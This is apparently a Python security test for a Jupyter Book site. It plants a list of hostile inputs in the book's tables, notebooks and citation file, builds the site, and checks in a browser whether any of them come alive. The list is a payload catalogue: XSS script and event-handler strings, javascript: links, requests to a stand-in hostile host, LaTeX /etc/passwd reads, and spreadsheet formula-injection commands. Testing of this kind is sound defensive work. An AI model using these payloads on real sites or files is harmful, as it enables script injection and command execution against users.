"""Text that wants to be code, put wherever text of others can come in, through the real build into a real browser.

``python tests/hostile.py`` builds a small book of its own in ``_build/hostile``, opens every page, reads its PDF and its
workbook and the reports of a refresh (``hostilefiles.py``), and counts what was tried and what held. The quick form, without a build, is ``test_hostile.py``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path
from typing import Any

import still

ROOT = Path(__file__).resolve().parent.parent
BOOK = ROOT / "_build" / "hostile"

# N is the number of the case. What comes alive calls stolen(N), asks hostile.invalid, or becomes an element <x-stolen>.
LIVE = {
    "script": "<script>stolen(N)</script>",
    "script in capitals": "<SCRIPT SRC=//hostile.invalid/N></SCRIPT>",
    "end of a script": "</script><script>stolen(N)</script>",
    "end of a style": "</style><script>stolen(N)</script>",
    "end of a title": "</title></textarea><x-stolen>N</x-stolen>",
    "event handler": "<img src=x onerror=stolen(N)>",
    "handler in an attribute": '" onmouseover="stolen(N)" data-x="',
    "handler in an attribute, single": "' onfocus='stolen(N)' autofocus='",
    "SVG": "<svg onload=stolen(N)><x-stolen></x-stolen></svg>",
    "SVG script": "<svg><script>stolen(N)</script></svg>",
    "frame": '<iframe srcdoc="<script>parent.stolen(N)</script>"></iframe>',
    "object": '<object data="javascript:stolen(N)"></object>',
    "base": '<base href="//hostile.invalid/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//hostile.invalid/N">',
    "form": '<form action="javascript:stolen(N)"><input name=N autofocus onfocus=stolen(N)></form>',
    "link": '<a href="javascript:stolen(N)">N</a>',
    "style": "<style>*{background:url(//hostile.invalid/N)}</style>",
    "comment": "<!-- N --!><x-stolen>N</x-stolen>",
    "CDATA": "]]><x-stolen>N</x-stolen><![CDATA[",
    "entity": "&lt;x-stolen&gt;N&#60;script&#62;stolen(N)&#60;/script&#62;",
    "template": "{{ ''.__class__ }} {% raw %} ${stolen(N)} N",
    "expression of Vega": "datum.x + stolen(N)",
    "JSON": '"}],"x":"N","@id":"javascript:stolen(N)","y":[{"z":"',
    "Markdown link": "[N](javascript:stolen(N))",
    "Markdown picture": "![N](//hostile.invalid/N.png)",
    "Markdown emphasis": "*N* **N** `N` _N_ ~~N~~",
    "Markdown heading": "# N",
    "reference of Markdown": "[N]: javascript:stolen(N)",
    "autolink": "<javascript:stolen(N)>",
    "role": "{download}`N <../data/claims.csv>` {ref}`N`",
    "role of raw HTML": "{raw:html}`<x-stolen>N</x-stolen>`",
    "directive": "```{raw} html <x-stolen>N</x-stolen> ```",
    "directive with colons": ":::{include} /etc/passwd N :::",
    "placeholder of a number": "[N](#n-case-1)",
    "substitution": "|N| `N`_ .. raw:: html",
    "mathematics": "$\\href{javascript:stolen(N)}{N}$ \\(N\\)",
    "LaTeX": "\\input{/etc/passwd} \\write18{N} {N} # N % N & N ~ N ^ N",
    "formula =": "=HYPERLINK(\"http://hostile.invalid/N\",N)",
    "formula +": "+cmd|' /C N'!A0",
    "formula -": "-2+3+cmd|' /C N'!A0",
    "formula @": "@SUM(N)",
    "formula behind a quotation mark": '"=1+N"',
    "formula in codes of a workbook": "_x003D_1+N_x000D_",
    "long word": "N" + "w" * 3000,
    "many words": "N" + " word" * 2000,
}  # fmt: skip
UNSEEN = {
    "tab and formula": "\t=1+N",
    "carriage return and formula": "\r=1+N",
    "line break": "N\n# N",
    "NUL": "N\x00N",
    "escape": "N\x1b[31mN",
    "override of direction": "N\u202egnp.N",
    "isolate of direction": "N\u2066N\u2069",
    "zero width": "N\u200bN\ufeffN",
    "a million characters": "N" + "m" * 1_000_000,
}
PAYLOADS = LIVE | UNSEEN
_PLACE = re.compile(r"(?<![A-Za-z])N(?![A-Za-ln-vx-z])(?=www|mmm|[^wm]|$)")
MARK = re.compile(r"zq(\d{5})qz")


class Cases:
    """Hands out texts in turn and remembers where each went."""

    def __init__(self) -> None:
        self.told: list[tuple[str, str]] = []
        self.times: Counter[str] = Counter()
        self.refused: set[int] = set()
        self.ruled: set[int] = set()

    def next(self, field: str, kinds: dict[str, str] = PAYLOADS) -> str:
        """The next text for a field."""
        kind = list(kinds)[self.times[field] % len(kinds)]
        self.times[field] += 1
        self.told.append((field, kind))
        return _PLACE.sub(f"zq{len(self.told):05}qz", kinds[kind])


# -- what is asked of a page ----------------------------------------------------------------------

TRAP = """(() => {
  window.hits = [];
  window.stolen = (...what) => { window.hits.push('ran ' + what.join()); };
  for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => { window.hits.push(name); };
  addEventListener('securitypolicyviolation', event => window.hits.push('policy ' + event.violatedDirective + ' ' + event.blockedURI));
})()"""
LOOK = """() => {
  const found = [...window.hits];
  for (const one of document.querySelectorAll('*')) {
    const name = one.tagName.toLowerCase();
    if (['x-stolen', 'iframe', 'object', 'embed', 'base', 'applet'].includes(name)) found.push('element ' + name);
    if (name === 'meta' && /refresh/i.test(one.httpEquiv)) found.push('element meta refresh');
    for (const {name: key, value} of one.attributes) {
      if (/^on/i.test(key)) found.push('attribute ' + key);
      if (/^(href|src|action|data|xlink:href|formaction)$/i.test(key) && /^\\s*(javascript|vbscript|data:text)/i.test(value)) found.push(key + ' ' + value.slice(0, 60));
      if (/^(src|action|formaction|xlink:href)$/i.test(key) && /hostile\\.invalid/.test(value)) found.push(key + ' ' + value.slice(0, 60));
    }
    if (name === 'script' && !one.src && /stolen\\(/.test(one.textContent) && one.type !== 'application/ld+json' && one.type !== 'application/json') found.push('script with ' + one.textContent.slice(0, 60));
    if (name === 'style' && /hostile\\.invalid/.test(one.textContent)) found.push('style');
  }
  return found;
}"""
WIDE = "() => Math.max(document.documentElement.scrollWidth, document.body.scrollWidth) - innerWidth"
OPEN = "() => { for (const one of document.querySelectorAll('details')) one.open = true; }"


def visit(browser: Any, address: str, widths: tuple[int, ...] = (1280, 390), touch: bool = True) -> list[str]:
    """What came alive on a page, or broke its layout; nothing if it held."""
    return [what for width in widths for what in _visit(browser, address, width, touch)]


def _visit(browser: Any, address: str, width: int, touch: bool) -> list[str]:
    wrong: list[str] = []
    tab = browser.new_page(viewport={"width": width, "height": 900})
    tab.add_init_script(TRAP)
    tab.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
    tab.on("request", lambda asked: wrong.append(f"asked {asked.url[:80]}") if "hostile.invalid" in asked.url else None)
    still.goto(tab, address, wait_until="load", timeout=120_000)
    tab.evaluate(OPEN)
    if touch:
        handle(tab)
    wrong += tab.evaluate(LOOK)
    if (over := tab.evaluate(WIDE)) > 0:
        wrong.append(f"{over} pixels too wide at {width}")
    tab.close()
    return wrong


def handle(tab: Any) -> None:
    """Point at drawings and numbers, as a reader does: cards and tooltips are made of text too."""
    for kind in (
        "a[href*='#number-'], [data-number], a.pm-number",
        "svg .mark-rect path, svg .mark-symbol path, svg path[aria-label]",
    ):
        for one in tab.locator(kind).all()[:6]:
            try:
                one.hover(timeout=700, force=True)
            except Exception:  # nothing to point at: hidden or gone
                continue
            tab.wait_for_timeout(40)


def cells_that_run(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would take for a formula."""
    return [
        cell[:60]
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d[\d.,]*(e[+-]?\d+)?", cell)
    ]


# -- the book -------------------------------------------------------------------------------------

LEFT_OUT: dict[str, str] = {}
"""Columns of free text that get no text, ``table, column``, each with the reason."""
PICKED = {"market-shares, brand": {"all Chinese"}}
"""Cells by whose words a chapter of the hostile book picks rows: they stay, or it would have nothing to show."""
MOST = 98  # texts in a column, so each kind that can be seen twice


def words(entry: dict[str, Any]) -> list[str]:
    """Columns of a table that hold words as somebody wrote them: no list, no form, no key of another table."""
    keys = {foreign["fields"] for foreign in entry["schema"].get("foreignKeys", [])}
    return [
        field["name"]
        for field in entry["schema"]["fields"]
        if field["type"] == "string"
        and field["name"] not in keys
        and not {"enum", "pattern"} & field.get("constraints", {}).keys()
    ]


def poisoned() -> dict[str, list[str]]:
    """The tables with the columns of free text that get texts, as their schemas have them."""
    from partnership import data

    found = {name: words(data.resource(name)) for name in data.tables()}
    found = {name: [column for column in own if f"{name}, {column}" not in LEFT_OUT] for name, own in found.items()}
    return {name: own for name, own in found.items() if own}


NOTEBOOK = r"""
import json
from pathlib import Path
import altair as alt
import pandas as pd
from partnership import ROOT, charts, data, prose, show
case = json.loads((ROOT / "hostile.json").read_text("utf-8"))
rows = data.select(data.load("bilateral-trade"), period=["2023", "2024"], frequency="A", reporter="CHN", currency="USD", rank=1)
one = rows.head(1)
"""
# Six entries in one row would be wider than the drawing, which cuts them off: the book's own figures are held to that in test_site.py.
FIGURE = r"""
texts = case["figures"]["{n}"]
frame = pd.DataFrame({{"label": texts["labels"], "kind": texts["kinds"], "value": [float(i) for i in range(len(texts["labels"]))]}})
chart = alt.Chart(frame).mark_bar().encode(x="value:Q", y=alt.Y("label:N", axis=alt.Axis(labelLimit=150)), color=alt.Color("kind:N", legend=alt.Legend(labelLimit=120, columns=3)), tooltip=["label", "kind", "value"])
charts.figure(chart, name="hostile-{n}", title=texts["title"], rows=[rows], columns={{"label": texts["head"], "kind": "Kind", "value": "Value, " + texts["of"]}}, alt_text=texts["alt"], unit=texts["unit"], note=texts["note"])
"""
NUMBERS = r"""
prose.say(**{name: prose.plain("a", a=one, unit=texts["unit"], digits=0, after=texts["after"], note=texts["note"]) for name, texts in case["numbers"].items()})
"""
TABLES = r"""
show.table(pd.DataFrame(case["table"]), case["caption"])
"""
# Every table, by what chapters show it with: cells, a file, a figure with its tooltips, numbers with their cards.
KEPT = ("claims", "codebook", "corrections", "figures", "pairs", "references")  # chapters of the book itself
BY_TABLE = r"""
held = {{name: data.load(name).loc[lines] for name, lines in case["tables"].items()}}
columns = case["columns"]
"""
CELLS = r"""
show.table(held["{table}"][columns["{table}"]], "{table}", file="{table}")
"""
DRAWN = r"""
frame = held["{table}"].head(8)[columns["{table}"]].fillna("").assign(many=1.0)
chart = alt.Chart(frame).mark_bar().encode(x="many:Q", y=alt.Y("{column}:N", axis=alt.Axis(labelLimit=150)), tooltip=[*columns["{table}"], "many"])
charts.figure(chart, name="table-{table}", title="{table}", rows=[rows])
"""
SAID = r"""
prose.say(**{{f"{table}_{{line}}".replace("-", "_"): prose.plain((held["{table}"].loc[[line]], "{column}"), digits=0) for line in {lines}}})
"""


def make(cases: Cases, figures: int = 7, numbers: int = 45, cells: int = 180) -> Path:
    """The hostile book, built; return its site."""
    shutil.rmtree(BOOK, ignore_errors=True)
    held = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
    for name in filter(None, held.split("\0")):
        if (ROOT / name).exists() and not name.startswith(("tests/", "bench/", "docs/")):
            (BOOK / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(ROOT / name, BOOK / name)
    for notebook in (BOOK / "chapters").glob("*"):
        if notebook.stem not in KEPT:
            notebook.unlink()
    toc = "format: jb-book\nroot: chapters/overview\nparts:\n  - caption: All\n    chapters:\n"
    toc += "".join(f"      - file: chapters/{name}\n" for name in ("tables", *KEPT))
    (BOOK / "_toc.yml").write_text(toc)
    write_notebook(cases, figures, numbers, cells)
    edition(cases)
    write_tables(poison(cases))
    run("-m", "publish.run", "--all")
    tool = Path(sys.executable).with_name("jupyter-book")
    told = run_tool(
        [tool, "build", "-q", "--keep-going", "."]
    )  # warnings are errors in the book; here they are expected
    (BOOK / "build.log").write_text(told)
    run("-m", "publish.edition.pdf")
    return BOOK / "_build" / "html"


def environment() -> dict[str, str]:
    """The hostile book's own package comes before the installed one."""
    return os.environ | {
        "PYTHONPATH": str(BOOK),
        "IPYTHONDIR": str(BOOK / ".ipython"),
        "TZ": "UTC",
    }


def run_tool(command: list[Any], check: bool = True) -> str:
    """Run something in the hostile book."""
    done = subprocess.run(command, cwd=BOOK, env=environment(), capture_output=True, text=True, check=False)
    if check and done.returncode:
        sys.exit(f"{command} ended with {done.returncode}\n{done.stdout[-3000:]}\n{done.stderr[-6000:]}")
    return done.stdout + done.stderr


def run(*arguments: str, check: bool = True) -> str:
    """Run Python in the hostile book."""
    return run_tool([sys.executable, *arguments], check)


def write_notebook(cases: Cases, figures: int, numbers: int, cells: int) -> None:
    """A chapter whose every text is hostile."""
    from nbformat import v4, write

    inside = {kind: text for kind, text in PAYLOADS.items() if kind not in ("a million characters", "NUL", "escape")}
    short = {
        kind: text for kind, text in inside.items() if len(_PLACE.sub("zq00000qz", text)) < 31
    }  # a longer one is refused: prose.LONGEST
    heads = {kind: text for kind, text in inside.items() if len(text) < 200}  # a longer one is refused by the workbook
    case: dict[str, Any] = {"figures": {}, "numbers": {}}
    for n in range(figures):
        case["figures"][str(n)] = {
            key: cases.next(f"figure, {key}", heads if key in ("head", "of") else inside)
            for key in ("title", "alt", "unit", "note", "head", "of")
        } | {
            "labels": [cases.next("figure, value", inside) for _ in range(6)],
            "kinds": [cases.next("figure, legend", inside) for _ in range(6)],
        }
    for n in range(numbers):
        case["numbers"][f"case_{n}"] = {key: cases.next(f"number, {key}", inside) for key in ("unit", "note")} | {
            "after": cases.next("number, text", short)
        }
    case["table"] = {
        cases.next("table, heading"): [cases.next("table, cell") for _ in range(cells // 4)] for _ in range(4)
    }
    case["caption"] = cases.next("table, caption")
    (BOOK / "hostile.json").write_text(json.dumps(case), "utf-8")
    said = "\n\n".join(f"Number [?](#n-case-{n})." for n in range(numbers))
    book = v4.new_notebook()
    book.cells = [
        v4.new_markdown_cell("# Hostile\n\nText of others."),
        v4.new_code_cell(NOTEBOOK.strip()),
        v4.new_code_cell(NUMBERS.strip()),
    ]
    book.cells += [v4.new_markdown_cell(said), v4.new_code_cell(TABLES.strip())]
    book.cells += [v4.new_code_cell(FIGURE.format(n=n).strip()) for n in range(figures)]
    write(book, BOOK / "chapters" / "overview.ipynb")


def edition(cases: Cases) -> None:
    """The facts of the edition and its change log, hostile."""
    import yaml

    path = BOOK / "CITATION.cff"
    told = yaml.safe_load(path.read_text("utf-8"))
    live = {kind: text for kind, text in LIVE.items() if "long" not in kind and "many" not in kind}
    told["title"], told["abstract"] = (
        cases.next("edition, title", {"x": LIVE["script"]}),
        cases.next("edition, abstract", live),
    )
    told["authors"] = [{"name": cases.next("edition, author", {"x": LIVE["handler in an attribute"]})}]
    told["keywords"] = [cases.next("edition, keyword", live) for _ in range(12)]
    path.write_text(yaml.safe_dump(told, sort_keys=False, allow_unicode=True), "utf-8")
    log = BOOK / "CHANGELOG.md"
    lines = "\n".join(f"- {cases.next('change log, entry', live)}" for _ in range(len(live)))
    log.write_text(
        re.sub(r"^(## .*\n)", r"\1\n@@\n", log.read_text("utf-8"), count=1, flags=re.M).replace("@@", lines), "utf-8"
    )


Cells = dict[tuple[str, int, str], tuple[int, str]]
"""Cells of tables, by table, line and column: the number of the case that stands there, and what stood there before."""


def poison(cases: Cases) -> Cells:
    """Put texts before the words of tables; what the loader refuses is taken out again and counted as held.

    The rules of the field refuse more (words hold no HTML). It goes on to the pages all the same: they must hold by themselves.
    """
    from checks import accounts, rulebook

    folder, fields = BOOK / "data", Cells()
    for table, columns in poisoned().items():
        rows = read(folder / f"{table}.csv")
        for column in columns:
            kept = {"", *PICKED.get(f"{table}, {column}", ())}
            filled = [line for line, row in enumerate(rows, 2) if row[column] not in kept]
            for line in filled[:MOST]:
                row = rows[line - 2]
                text = cases.next(f"{table}, {column}", LIVE)
                fields[table, line, column] = (len(cases.told), row[column])
                row[column] = f"{text} {row[column]}"
        save(folder / f"{table}.csv", rows)
    for table in poisoned():
        while bad := refused(table, fields):
            restore(cases, fields, bad)
    (folder / "datapackage.json").write_text(accounts.text(accounts.descriptor(folder)), "utf-8")
    faults = set(re.findall(PLACE, "\n".join(rulebook.problems(folder))))
    cases.ruled = {number for key, (number, _) in fields.items() if (key[0], str(key[1]), key[2]) in faults}
    return fields


PLACE = r'data/([\w-]+)\.csv, row (\d+), column "(\w+)"'


def refused(table: str, fields: Cells) -> list[tuple[str, int, str]]:
    """The cells of a table that the loader names; it stops at the first kind of defect."""
    from partnership import data

    try:
        data.check(table, BOOK / "data")
    except data.TableError as error:
        lines = set(re.findall(PLACE, "\n".join(error.problems)))
        if bad := [key for key in fields if (key[0], str(key[1]), key[2]) in lines]:
            return bad
        sys.exit(f"the loader refuses what was not poisoned: {str(error)[:500]}")
    return []


def write_tables(fields: Cells) -> None:
    """A chapter that shows every table with a text in it."""
    from nbformat import v4, write

    from partnership import data

    lines: dict[str, list[int]] = {}
    for table, line, _ in sorted(fields):
        lines[table] = [*dict.fromkeys([*lines.get(table, []), line])]
    case = json.loads((BOOK / "hostile.json").read_text("utf-8"))
    (BOOK / "hostile.json").write_text(json.dumps(case | {"tables": lines, "columns": poisoned()}), "utf-8")
    cells = [
        v4.new_markdown_cell("# Tables\n\nText of others."),
        v4.new_code_cell(NOTEBOOK + BY_TABLE.format().strip()),
    ]
    for table, own in lines.items():
        cells.append(v4.new_markdown_cell(f"## {table}"))
        column = poisoned()[table][0]
        cells += [v4.new_code_cell(text.format(table=table, column=column).strip()) for text in (CELLS, DRAWN)]
        frame = data.load(table, folder=BOOK / "data").loc[own]
        numbers = [column for column in frame.select_dtypes("number") if frame[column].notna().any()]
        if numbers and "source_id" in frame:
            some = frame.index[frame[numbers[0]].notna()][:12].tolist()
            cells.append(v4.new_code_cell(SAID.format(table=table, column=numbers[0], lines=some).strip()))
            cells.append(v4.new_markdown_cell("\n\n".join(f"Number [?](#n-{table}-{line})." for line in some)))
    write(v4.new_notebook(cells=cells), BOOK / "chapters" / "tables.ipynb")


def unseen(cases: Cases) -> list[str]:
    """Every sign that nobody sees, in every field: the loader refuses it, with file, row and column, or this says where not."""
    from partnership import data

    let_in = []
    for table, columns in poisoned().items():
        source = ROOT / "data" / f"{table}.csv"
        rows = read(source)
        with tempfile.TemporaryDirectory() as place:
            folder = Path(place) / "data"
            folder.mkdir()
            for other in (ROOT / "data").glob("*.*"):
                (folder / other.name).symlink_to(other)
            (folder / source.name).unlink()
            for column in columns:
                line = next(number for number, row in enumerate(rows) if row[column])
                for kind in UNSEEN:
                    text = cases.next(f"{table}, {column}, not seen", {kind: UNSEEN[kind]})
                    changed = [*rows]
                    changed[line] = rows[line] | {column: f"{rows[line][column]} {text}"}
                    save(folder / source.name, changed)
                    try:
                        data.check(table, folder)
                        let_in.append(f"{table}, {column}: {kind} was let in")
                    except data.TableError as error:
                        if not re.search(rf"{table}\.csv, row \d+, column", str(error)):
                            let_in.append(f"{table}, {column}: {kind}: {str(error)[:80]}")
                        cases.refused.add(len(cases.told))
    return let_in


def restore(cases: Cases, fields: Cells, bad: list[tuple[str, int, str]]) -> None:
    """Put back what stood in refused cells."""
    for table in {key[0] for key in bad}:
        path = BOOK / "data" / f"{table}.csv"
        rows = read(path)
        for name, line, column in bad:
            if name == table:
                number, before = fields.pop((name, line, column))
                rows[line - 2][column] = before
                cases.refused.add(number)
        save(path, rows)


def read(path: Path) -> list[dict[str, str]]:
    """The rows of a table as text."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def save(path: Path, rows: list[dict[str, str]]) -> None:
    """A table as the book writes it."""
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


# -- looking --------------------------------------------------------------------------------------


def files_wrong(site: Path) -> list[str]:
    """What is wrong with files that are no pages: not well-formed, or not safe in a spreadsheet."""
    from xml.etree import ElementTree

    from pybtex.database import parse_file

    wrong = []
    for path in sorted(site.rglob("*")):
        name = path.relative_to(site).as_posix()
        try:
            if path.suffix == ".csv":
                wrong += [f"{name}: {cell}" for cell in cells_that_run(path.read_text("utf-8"))[:3]]
            elif path.suffix in (".json", ".jsonld"):
                json.loads(path.read_text("utf-8"))
            elif path.suffix in (".xml", ".svg"):
                root = ElementTree.fromstring(path.read_text("utf-8"))
                tags = {str(one.tag).rpartition("}")[2].lower() for one in root.iter()}
                keys = {key.lower() for one in root.iter() for key in one.attrib}
                if tags & {"script", "x-stolen", "foreignobject"} or any(key.startswith("on") for key in keys):
                    wrong.append(f"{name}: {tags & {'script', 'x-stolen', 'foreignobject'}}")
            elif path.suffix == ".bib":
                parse_file(path)
        except Exception as error:
            wrong.append(f"{name}: {type(error).__name__} {str(error)[:120]}")
    for page in site.rglob("*.html"):
        for text in re.findall(
            r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', page.read_text("utf-8"), re.S
        ):
            try:
                json.loads(text)
            except ValueError as error:
                wrong.append(f"{page.name}: JSON {error}")
    return wrong


def main() -> int:
    """Build, open, count."""
    import hostilefiles
    from playwright.sync_api import sync_playwright

    from publish.browser import started

    start, cases = time.monotonic(), Cases()
    site = BOOK / "_build" / "html" if "--again" in sys.argv else make(cases)
    book = BOOK / "cases.json"
    if "--again" in sys.argv:
        stored = json.loads(book.read_text())
        cases.told = [tuple(one) for one in stored["told"]]
        cases.refused, cases.ruled = set(stored["refused"]), set(stored["ruled"])
    book.write_text(json.dumps({"told": cases.told, "refused": sorted(cases.refused), "ruled": sorted(cases.ruled)}))
    found = sorted(site.rglob("*.html"))
    pages = [page for number, page in enumerate(found) if "economies" not in page.parts or number % 10 == 0]
    seen: set[int] = set()
    for path in site.rglob("*"):
        if path.suffix in (".html", ".csv", ".json", ".jsonld", ".xml", ".svg", ".js", ".md", ".txt", ".bib"):
            seen |= set(map(int, MARK.findall(path.read_text("utf-8", errors="replace"))))
    wrong: dict[str, list[str]] = {}
    if found := unseen(cases):
        wrong["loader"] = found
    with sync_playwright() as playwright:
        browser = started(playwright.chromium)
        for what, (found, shown) in hostilefiles.looked_at(browser, site, cases).items():
            seen |= shown
            if found:
                wrong[what] = found
        for page in pages:
            name = page.relative_to(site).as_posix()
            heavy = name.startswith("chapters/")
            if found := visit(browser, page.as_uri(), (1280, 390) if heavy or "figures/" in name else (390,), heavy):
                wrong[name] = found
        for words in ("zq00001qz", "hostile", "script", "javascript"):
            if found := visit(browser, f"{(site / 'search.html').as_uri()}?q={words}", (390,), touch=False):
                wrong[f"search {words}"] = found
        browser.close()
    if found := files_wrong(site):
        wrong["files"] = found
    report(cases, seen, len(pages), wrong, time.monotonic() - start)
    return bool(wrong)


def report(cases: Cases, seen: set[int], pages: int, wrong: dict[str, list[str]], seconds: float) -> None:
    """What was tried and what held."""
    count = len(cases.told)
    print(
        f"{count} texts of {len(PAYLOADS)} kinds in {len({place for place, _ in cases.told})} fields; {seconds:.0f} s"
    )
    print(
        f"{len(cases.refused)} refused by the loader, {len(cases.ruled)} that the rules of the field refuse put there all the same, {len(seen)} in files, {count - len(cases.refused | seen)} shown nowhere"
    )
    print(
        f"{pages} pages opened, and the printed book, the workbook, the reports of a refresh; {len(wrong)} with something alive, broken or lost"
    )
    for kind, times in Counter(
        kind for number, (_, kind) in enumerate(cases.told, 1) if number in cases.refused
    ).most_common():
        print(f"  refused: {kind} {times}")
    for name, found in wrong.items():
        print(f"  {name}: {'; '.join(dict.fromkeys(found))[:600]}")


if __name__ == "__main__":
    sys.exit(main())
